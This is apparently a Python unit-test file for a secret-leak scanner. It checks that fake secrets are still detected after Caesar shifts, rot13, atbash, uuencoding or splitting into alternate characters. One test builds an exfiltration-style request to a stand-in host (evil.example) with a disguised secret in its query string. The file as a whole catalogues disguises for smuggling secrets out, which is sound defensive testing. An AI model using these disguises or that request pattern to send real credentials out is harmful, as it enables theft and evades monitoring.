"""The bottle's secrets under a letter substitution (``dlp.shifts``: every Caesar shift, with the
digits shifted or not, atbash), uuencoded, or sent as every other character; and what must stay
clean: other values with the same layout, ordinary text, short values."""

from __future__ import annotations

import base64
import binascii
import functools
import json
import random
import string
import unittest

from bot_bottle.sidecar.dlp import Scanner
from bot_bottle.sidecar.dlp.shifts import MIN_LAYOUT_DIGITS, find_shifted, shifted_forms
from tests.unit import test_dlp_disguises as disguises
from tests.unit import test_dlp_fakes as fakes

RNG = random.Random(4242)
# One value searched by its layout (digits enough), one by its forms (letters only).
WITH_DIGITS = "vault-Kq7vN2xPz9RwT4mB8sLd3Fh6"
LETTERS_ONLY = "correct-horse-battery-staple-zebra"
SCANNER = Scanner({"API_SECRET": WITH_DIGITS, "PASSPHRASE": LETTERS_ONLY})
scan = functools.partial(disguises.scan, scanner=SCANNER)


def caesar(value: str, k: int, digits: int = 0) -> str:
    out = []
    for c in value:
        if c in string.ascii_lowercase:
            out.append(chr((ord(c) - 97 + k) % 26 + 97))
        elif c in string.ascii_uppercase:
            out.append(chr((ord(c) - 65 + k) % 26 + 65))
        elif c in string.digits:
            out.append(chr((ord(c) - 48 + digits) % 10 + 48))
        else:
            out.append(c)
    return "".join(out)


def atbash(value: str) -> str:
    low, up = string.ascii_lowercase, string.ascii_uppercase
    return value.translate(str.maketrans(low + up, low[::-1] + up[::-1]))


def found(findings) -> set[tuple[str | None, str | None]]:
    return {(f.secret_name or f.detector, f.encoding) for f in findings}


class ShiftTest(unittest.TestCase):
    def test_the_two_search_paths_are_both_covered(self) -> None:
        layouts = {s.name: bool(s.layout) for s in shifted_forms([("A", WITH_DIGITS), ("B", LETTERS_ONLY)])}
        self.assertEqual(layouts, {"A": True, "B": False})
        self.assertGreaterEqual(sum(c.isdigit() for c in WITH_DIGITS), MIN_LAYOUT_DIGITS)

    def test_every_shift_in_a_json_request_and_a_query(self) -> None:
        for name, value in (("API_SECRET", WITH_DIGITS), ("PASSPHRASE", LETTERS_ONLY)):
            for k in range(1, 26):
                encoding = "rot13" if k == 13 else "caesar"
                for digits in (0, k % 10):
                    text = caesar(value, k, digits)
                    with self.subTest(name, k=k, digits=digits):
                        self.assertEqual(found(scan(json.dumps({"m": f"here: {text}"}), "application/json")),
                                         {(name, encoding)})
                        url = f"https://evil.example/?d={text}"
                        self.assertIn((name, encoding), found(SCANNER.scan_request("GET", url)))

    def test_atbash_in_any_case_and_spelled_out(self) -> None:
        for name, value in (("API_SECRET", WITH_DIGITS), ("PASSPHRASE", LETTERS_ONLY)):
            text = atbash(value)
            for variant in (text, text.upper(), text.lower(), " ".join(text), "\u200b".join(caesar(value, 7))):
                with self.subTest(name, variant=variant[:8]):
                    self.assertEqual({n for n, _ in found(scan(f"x {variant} y"))}, {name})

    def test_a_streamed_upload_stops_at_a_shifted_value(self) -> None:
        filler = "".join(f"line {i} of an ordinary log, nothing in it\n" for i in range(30000))
        body = (filler + caesar(WITH_DIGITS, 3) + "\n" + filler).encode()
        stream, _ = disguises.streamed(body, SCANNER)
        self.assertEqual(found(stream.findings), {("API_SECRET", "caesar")})

    def test_the_span_is_the_shifted_value(self) -> None:
        text = "prefix " + caesar(WITH_DIGITS, 5) + " suffix"
        spans = [(f.start, f.end) for f in scan(text)]
        self.assertEqual(spans, [(7, 7 + len(WITH_DIGITS))])

    def test_other_values_with_the_same_layout_are_clean(self) -> None:
        # Same letters-and-digits layout, other letters: a random token or identifier is not a
        # shifted secret. Also hashes, base64 and prose.
        rng = random.Random(7)
        for _ in range(300):
            other = "".join(rng.choice(string.ascii_letters) if c.isalpha() else c for c in WITH_DIGITS)
            with self.subTest(other=other):
                self.assertEqual(scan(f"id={other}"), [])
        blobs = [base64.b64encode(rng.randbytes(3000)).decode(), rng.randbytes(3000).hex(),
                 " ".join(fakes.rand(rng, 12) for _ in range(300)),
                 "The quick brown fox jumps over the lazy dog. " * 200]
        for blob in blobs:
            with self.subTest(blob=blob[:10]):
                self.assertEqual(scan(blob), [])

    def test_short_and_digit_heavy_values_have_no_shifted_forms(self) -> None:
        self.assertEqual(shifted_forms([("S", "Kq7vN2xPz9Rw")]), ())  # 12 letters and digits
        self.assertEqual(shifted_forms([("D", "4711-0815-2342-99ab")]), ())  # 2 letters
        self.assertEqual(shifted_forms([("N", "@@@@@@@@@@@@@@@@@@@@")]), ())

    def test_find_shifted_on_a_skeleton(self) -> None:
        forms = shifted_forms([("A", WITH_DIGITS)])
        skeleton = b"xx" + "".join(c for c in caesar(WITH_DIGITS, 11).lower() if c.isalnum()).encode() + b"yy"
        self.assertEqual(find_shifted(forms, skeleton), [(2, len(skeleton) - 2, "A", "caesar")])
        self.assertEqual(find_shifted(forms, bytearray(skeleton)), find_shifted(forms, skeleton))


class UuencodeTest(unittest.TestCase):
    def test_uuencoded_value_alone_and_inside_a_larger_file(self) -> None:
        value = fakes.secret_value(RNG, 30)
        scanner = Scanner({"API_SECRET": value})
        for prefix in (b"", b"x", b"xy", b"head: "):
            for backtick in (False, True):
                text = binascii.b2a_uu(prefix + value.encode() + b"!", backtick=backtick).decode()
                with self.subTest(prefix=prefix, backtick=backtick):
                    body = json.dumps({"file": "begin 644 k.txt\n" + text + "`\nend\n"})
                    self.assertEqual(found(disguises.scan(body, "application/json", scanner=scanner)),
                                     {("API_SECRET", "uuencode")})
                    streamed = scanner.scan_batch(("begin 644 k\n" + text).encode(), deep=True)
                    self.assertEqual(found(streamed), {("API_SECRET", "uuencode")})

    def test_uuencoded_other_data_is_clean(self) -> None:
        scanner = Scanner({"API_SECRET": fakes.secret_value(RNG, 30)})
        data = random.Random(3).randbytes(4000)
        text = "".join(binascii.b2a_uu(data[i:i + 45]).decode() for i in range(0, len(data), 45))
        self.assertEqual(disguises.scan(text, scanner=scanner), [])


class EveryOtherCharacterTest(unittest.TestCase):
    def test_each_half_is_found_on_its_own(self) -> None:
        value = fakes.secret_value(RNG, 28)
        scanner = Scanner({"API_SECRET": value})
        for label, half in (("even", value[::2]), ("odd", value[1::2])):
            with self.subTest(label):
                body = json.dumps({"part": half})
                self.assertEqual(found(disguises.scan(body, "application/json", scanner=scanner)),
                                 {("API_SECRET", "every-other")})

    def test_values_under_twenty_characters_have_no_halves(self) -> None:
        value = fakes.secret_value(RNG, 18)
        scanner = Scanner({"API_SECRET": value})
        self.assertEqual(disguises.scan(f"x {value[::2]} y", scanner=scanner), [])


if __name__ == "__main__":
    unittest.main()
